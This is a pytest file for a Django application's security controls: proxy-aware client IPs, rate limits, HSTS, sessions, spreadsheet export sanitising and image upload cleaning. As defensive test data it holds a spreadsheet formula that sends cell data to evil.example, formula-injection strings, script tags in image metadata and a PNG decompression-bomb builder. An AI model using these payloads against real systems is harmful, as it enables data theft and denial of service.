"""The security controls of issue 12 (docs/security.md), each as the user or the operator meets it."""

import csv
import io
import os
import subprocess
import sys
import time
import tracemalloc
import zlib
from datetime import timedelta

import pytest
import time_machine
from axes.models import AccessAttempt
from django.test import Client, RequestFactory
from openpyxl import load_workbook
from PIL import Image, PngImagePlugin

from shuxiang.core import services
from shuxiang.core.actors import OPERATOR
from shuxiang.core.errors import ServiceError
from shuxiang.core.exports import export_response, safe_sheet_title
from shuxiang.core.files import clean_photo
from shuxiang.core.middleware import client_ip
from shuxiang.core.models import AuditEntry
from shuxiang.core.ratelimit import hit, parse_rate
from shuxiang.testing import PASSWORD

PROXY = "10.0.0.2"


@pytest.fixture
def behind_proxy(settings):
    settings.TRUSTED_PROXIES = ["10.0.0.0/24", "::1"]
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.SECURE_HSTS_SECONDS = 31536000
    return settings


@pytest.fixture
def person(places):
    return services.do_create_person(
        actor=OPERATOR,
        name="张三",
        place=places.hamlet_a,
        id_number="11010519491231002X",
        phone="13812341234",
    )


def _request(remote, forwarded=None):
    meta = {"REMOTE_ADDR": remote}
    if forwarded is not None:
        meta["HTTP_X_FORWARDED_FOR"] = forwarded
    return RequestFactory().get("/", **meta)


# --- the client's address --------------------------------------------------------------------


def test_a_forged_forwarded_for_header_is_ignored_when_no_proxy_is_trusted(db):
    assert client_ip(_request("203.0.113.9", "1.2.3.4")) == "203.0.113.9"


def test_behind_a_trusted_proxy_the_client_is_the_rightmost_address_not_ours(behind_proxy):
    forged_then_real = "6.6.6.6, 198.51.100.7, 10.0.0.3"
    assert client_ip(_request(PROXY, forged_then_real)) == "198.51.100.7"
    assert client_ip(_request(PROXY, "198.51.100.7:51234")) == "198.51.100.7"
    assert client_ip(_request("::1", "2001:db8::5")) == "2001:db8::5"


def test_a_direct_caller_outside_the_proxies_cannot_choose_its_address(behind_proxy):
    assert client_ip(_request("203.0.113.9", "198.51.100.7")) == "203.0.113.9"


def test_a_malformed_forwarded_entry_stops_the_walk_at_the_last_good_address(behind_proxy):
    assert client_ip(_request(PROXY, "198.51.100.7, <script>, 10.0.0.3")) == "10.0.0.3"
    assert client_ip(_request(PROXY)) == PROXY


def test_the_audit_log_shows_the_client_behind_the_proxy_not_the_proxy(behind_proxy, cast, person):
    web = Client(REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR="6.6.6.6, 198.51.100.7")
    web.force_login(cast.township_a)
    assert web.get("/people/?export=csv").status_code == 200
    assert AuditEntry.objects.get(action="export").ip == "198.51.100.7"


def test_lockouts_count_the_same_address_as_the_audit_log(behind_proxy, cast):
    web = Client(REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR="198.51.100.7")
    web.post("/login/", {"username": "t_grid", "password": "Wrong-pass-9"})
    assert AccessAttempt.objects.get(username="t_grid").ip_address == "198.51.100.7"


def test_an_unreadable_trusted_proxy_is_reported_by_the_check_and_not_trusted(settings):
    from shuxiang.core.checks import check_security_settings

    settings.TRUSTED_PROXIES = ["10.0.0.0/24", "proxy.example"]
    assert [p.id for p in check_security_settings()] == ["shuxiang.E006"]
    assert client_ip(_request("10.0.0.2", "198.51.100.7")) == "198.51.100.7"


def test_unreadable_security_settings_are_named_by_the_system_check(settings):
    from shuxiang.core.checks import check_security_settings

    settings.REVEAL_RATE, settings.SESSION_MAX_HOURS, settings.TLS = "often", 0, True
    assert [p.id for p in check_security_settings()] == ["shuxiang.E007", "shuxiang.E008", "shuxiang.W003"]


# --- caching -------------------------------------------------------------------------------------


def test_pages_api_answers_and_reveals_for_signed_in_users_are_not_stored(cast, person, client_for, api_for):
    web = client_for(cast.district)
    for response in (
        web.get("/people/"),
        web.get(f"/people/{person.pk}/"),
        web.post(f"/people/{person.pk}/reveal/"),
        api_for(cast.district).get("/api/v1/people/"),
        api_for(cast.district).post(
            f"/api/v1/people/{person.pk}/reveal/", {"fields": ["phone"]}, format="json"
        ),
    ):
        assert response.status_code == 200
        assert "no-store" in response["Cache-Control"]


def test_public_answers_and_static_files_keep_their_caching(db, client):
    assert "no-store" not in client.get("/open311/v2/discovery.json").get("Cache-Control", "")
    assert "no-store" not in client.get("/static/core/app.css").get("Cache-Control", "")


# --- reveals ---------------------------------------------------------------------------------------


def test_reveals_beyond_the_rate_are_refused_with_429_in_chinese_and_audited_once(
    settings, cast, person, client_for
):
    settings.REVEAL_RATE = "3/minute"
    web = client_for(cast.district)
    answers = [web.post(f"/people/{person.pk}/reveal/") for _ in range(6)]
    assert [a.status_code for a in answers] == [200, 200, 200, 429, 429, 429]
    assert "查看敏感信息过于频繁" in answers[3].content.decode() and answers[3]["Retry-After"]
    assert "11010519491231002X" not in answers[3].content.decode()
    assert AuditEntry.objects.filter(action="reveal").count() == 3
    refused = AuditEntry.objects.get(action="refused", actor=cast.district, object_id=str(person.pk))
    assert refused.changes["action"] == "reveal" and refused.changes["reason"] == "rate_limited"


def test_api_reveals_share_the_limit_and_answer_the_json_error_shape(
    settings, cast, person, client_for, api_for
):
    settings.REVEAL_RATE = "2/minute"
    client_for(cast.district).post(f"/people/{person.pk}/reveal/")
    api = api_for(cast.district)
    ok = api.post(f"/api/v1/people/{person.pk}/reveal/", {"fields": ["phone"]}, format="json")
    refused = api.post(f"/api/v1/people/{person.pk}/reveal/", {"fields": ["phone"]}, format="json")
    assert ok.status_code == 200 and refused.status_code == 429
    body = refused.json()
    assert body["code"] == "rate_limited" and "过于频繁" in body["message"] and body["fields"] == {}


def test_the_limit_is_per_user_and_a_new_window_allows_reveals_again(settings, cast, person, client_for):
    settings.REVEAL_RATE = "1/minute"
    with time_machine.travel(1_800_000_000, tick=False) as traveller:
        district, admin = client_for(cast.district), client_for(cast.admin)
        assert district.post(f"/people/{person.pk}/reveal/").status_code == 200
        assert district.post(f"/people/{person.pk}/reveal/").status_code == 429
        assert admin.post(f"/people/{person.pk}/reveal/").status_code == 200
        traveller.shift(61)
        assert district.post(f"/people/{person.pk}/reveal/").status_code == 200


def test_rates_are_read_as_written():
    assert parse_rate("10/minute").seconds == 60 and parse_rate("10/minute").limit == 10
    assert parse_rate("100/hour").seconds == 3600 and parse_rate("5/30s").seconds == 30
    assert parse_rate("20/10min").seconds == 600 and parse_rate("20/10min").label == "每10分钟"
    for bad in ("ten/minute", "10/fortnight", "0/minute", ""):
        with pytest.raises(ValueError):
            parse_rate(bad)


def test_the_limiter_counts_each_caller_in_its_own_fixed_window(db):
    rate = parse_rate("2/minute")
    now = 1_800_000_000  # a window boundary (a multiple of 60)
    assert [hit("t", "ip:1", rate, now=now).allowed for _ in range(3)] == [True, True, False]
    assert hit("t", "ip:2", rate, now=now).allowed
    assert hit("t", "ip:1", rate, now=now + 60).allowed
    assert hit("t", "ip:1", rate, now=now + 59).retry_after == 1


# --- HTTPS, cookies and sessions ---------------------------------------------------------------------


def test_behind_a_trusted_tls_proxy_answers_carry_hsts_and_secure_cookies(behind_proxy, cast):
    web = Client(REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_PROTO="https")
    page = web.get("/login/")
    assert page["Strict-Transport-Security"].startswith("max-age=31536000")
    assert page.cookies["csrftoken"]["secure"] is True
    signed_in = web.post("/login/", {"username": "t_quanjiaohe", "password": PASSWORD})
    assert signed_in.status_code == 302
    assert signed_in.cookies["sessionid"]["secure"] is True


def test_a_direct_caller_claiming_https_gets_neither_hsts_nor_secure_cookies(behind_proxy, cast):
    page = Client(REMOTE_ADDR="203.0.113.9", HTTP_X_FORWARDED_PROTO="https").get("/login/")
    assert "Strict-Transport-Security" not in page
    assert not page.cookies["csrftoken"]["secure"]


def test_plain_http_on_loopback_signs_in_without_secure_cookies(behind_proxy, cast):
    web = Client(REMOTE_ADDR="127.0.0.1")
    signed_in = web.post("/login/", {"username": "t_quanjiaohe", "password": PASSWORD})
    assert signed_in.status_code == 302 and not signed_in.cookies["sessionid"]["secure"]
    assert web.get("/people/").status_code == 200


@pytest.mark.parametrize(
    ("env", "seconds"),
    [({}, 0), ({"SHUXIANG_TLS": "true"}, 31536000), ({"SHUXIANG_TRUSTED_PROXIES": "10.0.0.1"}, 31536000)],
)
def test_hsts_is_configured_only_when_the_site_is_served_over_tls(env, seconds, tmp_path):
    script = (
        "from django.conf import settings;"
        "print(settings.SECURE_HSTS_SECONDS, getattr(settings, 'SECURE_PROXY_SSL_HEADER', None))"
    )
    run_env = {k: v for k, v in os.environ.items() if not k.startswith(("SHUXIANG_TLS", "SHUXIANG_TRUSTED"))}
    run_env.update(env, DJANGO_SETTINGS_MODULE="shuxiang.settings", SHUXIANG_VAR_DIR=str(tmp_path))
    out = subprocess.run(
        [sys.executable, "-c", script],
        env=run_env,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split(maxsplit=1)
    assert int(out[0]) == seconds
    assert (out[1].strip() != "None") == ("SHUXIANG_TRUSTED_PROXIES" in env)


def test_a_session_ends_after_its_absolute_lifetime_even_when_active(settings, cast):
    settings.SESSION_COOKIE_AGE = 24 * 3600  # take the idle timeout out of the way
    settings.SESSION_MAX_HOURS = 12
    with time_machine.travel(1_800_000_000, tick=False) as traveller:
        web = Client()
        web.post("/login/", {"username": "t_quanjiaohe", "password": PASSWORD})
        for _ in range(11):
            traveller.shift(timedelta(hours=1))
            assert web.get("/people/").status_code == 200
        traveller.shift(timedelta(hours=1, minutes=1))
        ended = web.get("/people/")
        assert ended.status_code == 302 and "/login/" in ended["Location"]
        assert "_auth_user_id" not in web.session


# --- API tokens while the account is locked --------------------------------------------------------


def test_an_api_token_stops_working_while_its_account_is_locked(cast, api_for, client, client_for):
    api = api_for(cast.township_a)
    assert api.get("/api/v1/me/").status_code == 200
    for _ in range(5):
        client.post("/login/", {"username": "t_quanjiaohe", "password": "Wrong-pass-9"})
    locked = api.get("/api/v1/me/")
    assert locked.status_code == 401 and locked.json()["message"] == "接口令牌无效或用户已停用"
    client_for(cast.admin).post(f"/users/{cast.township_a.pk}/unlock/")
    assert api.get("/api/v1/me/").status_code == 200


# --- exports ---------------------------------------------------------------------------------------


HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"点此")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_exports_neutralise_formula_cells_and_keep_numbers(cast):
    response = export_response(
        [[text, 7, -2] for text in HOSTILE] + [["普通文字", 1, 0]],
        ["内容", "数量", "差额"],
        fmt="csv",
        filename="t",
        sheet_title="t",
        actor=cast.district,
        object_type="core.person",
        description="导出测试（csv）",
        filters={"q": ["x"]},
    )
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:-1]] == ["'" + text for text in HOSTILE]
    assert rows[-1] == ["普通文字", "1", "0"] and rows[1][1:] == ["7", "-2"]
    entry = AuditEntry.objects.get(action="export")
    assert entry.changes["rows"] == 7 and entry.changes["filters"] == {"q": ["x"]}


def test_xlsx_exports_write_formula_like_text_as_text_under_a_valid_sheet_title(cast):
    response = export_response(
        [[text, 7] for text in HOSTILE],
        ["内容", "数量"],
        fmt="xlsx",
        filename="t",
        sheet_title="识别/消除程序[2025]：*?\\",
        actor=cast.district,
        object_type="monitoring.procedure",
        description="导出测试（xlsx）",
    )
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.worksheets[0]
    assert sheet.title == "识别-消除程序-2025-：---"
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # (XML reads a bare carriage return back as a line feed; the cell is text either way)
    assert [c.value.replace("\n", "\r") for c in cells] == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert sheet["B2"].value == 7 and sheet["B2"].data_type == "n"
    assert b"<f>" not in response.content  # no formula anywhere in the file


def test_sheet_titles_lose_what_excel_forbids():
    assert safe_sheet_title("识别/消除程序") == "识别-消除程序"
    assert len(safe_sheet_title("很长的标题" * 10)) == 31
    assert safe_sheet_title("'?'") == "-"
    assert safe_sheet_title("") == "数据"


def test_the_people_list_exports_a_hostile_name_as_text(cast, places, client_for):
    services.do_create_person(actor=OPERATOR, name="=HYPERLINK(1)", place=places.hamlet_a)
    text = client_for(cast.district).get("/people/?export=csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK(1)" in text
    book = load_workbook(io.BytesIO(client_for(cast.district).get("/people/?export=xlsx").content))
    names = [row[0] for row in book.worksheets[0].iter_rows(min_row=2)]
    assert any(c.value == "=HYPERLINK(1)" and c.data_type == "s" for c in names)


# --- uploads ---------------------------------------------------------------------------------------


def _jpeg_with_metadata() -> bytes:
    from PIL import ImageCms

    image = Image.new("RGB", (40, 30), (10, 120, 200))
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "TestCam"
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><script>alert(1)</script></x:xmpmeta>'
    image.save(out, format="JPEG", comment=b"<script>alert(1)</script>", exif=exif, icc_profile=icc, xmp=xmp)
    return out.getvalue()


def _segments(jpeg: bytes) -> list[int]:
    """The marker bytes of a JPEG's segments before the image data."""
    markers, i = [], 2
    while i < len(jpeg) and jpeg[i] == 0xFF and jpeg[i + 1] != 0xDA:
        markers.append(jpeg[i + 1])
        i += 2 + int.from_bytes(jpeg[i + 2 : i + 4], "big")
    return markers


def test_a_jpeg_comment_exif_xmp_and_icc_profile_do_not_survive_an_upload():
    original = _jpeg_with_metadata()
    assert b"<script>" in original and 0xFE in _segments(original)
    cleaned, extension, _ = clean_photo(original)
    assert extension == ".jpg" and b"<script>" not in cleaned and b"TestCam" not in cleaned
    # Only the JFIF header (APP0) and the tables that draw the picture are left: no COM, no APP1–APP15.
    assert not [m for m in _segments(cleaned) if m == 0xFE or 0xE1 <= m <= 0xEF]
    assert Image.open(io.BytesIO(cleaned)).size == (40, 30)


def test_png_text_chunks_and_profiles_do_not_survive_but_transparency_does():
    from PIL import ImageCms

    image = Image.new("P", (8, 8), 1)
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    info.add_itxt("XML:com.adobe.xmp", "<script>xmp</script>")
    out = io.BytesIO()
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    image.save(out, format="PNG", pnginfo=info, transparency=1, icc_profile=icc)
    cleaned, extension, _ = clean_photo(out.getvalue())
    assert extension == ".png" and b"<script>" not in cleaned
    for chunk in (b"tEXt", b"iTXt", b"zTXt", b"iCCP", b"eXIf"):
        assert chunk not in cleaned
    assert "transparency" in Image.open(io.BytesIO(cleaned)).info


def _png_bomb(width=20000, height=20000) -> bytes:
    """A 1-bit PNG of width×height zero pixels, compressed to tens of kilobytes, built row by row."""

    def chunk(kind, data):
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    compressor, parts, row = zlib.compressobj(9), [], bytes(1 + (width + 7) // 8)
    for _ in range(height):
        parts.append(compressor.compress(row))
    parts.append(compressor.flush())
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b"")
    )


def test_a_small_png_of_huge_dimensions_is_refused_quickly_without_decoding():
    bomb = _png_bomb()
    assert len(bomb) < 100_000
    tracemalloc.start()
    started = time.monotonic()
    with pytest.raises(ServiceError) as refused:
        clean_photo(bomb, "bomb.png")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert refused.value.status == 400 and refused.value.code == "image_too_large"
    assert "4000万像素" in refused.value.message
    assert peak < 20 * 1024 * 1024 and time.monotonic() - started < 2


def test_a_picture_just_over_the_pixel_cap_is_refused_as_too_large():
    with pytest.raises(ServiceError) as refused:
        clean_photo(_png_bomb(8000, 5001), "big.png")  # 40.008 MP: past the cap, under Pillow's own error
    assert refused.value.code == "image_too_large"
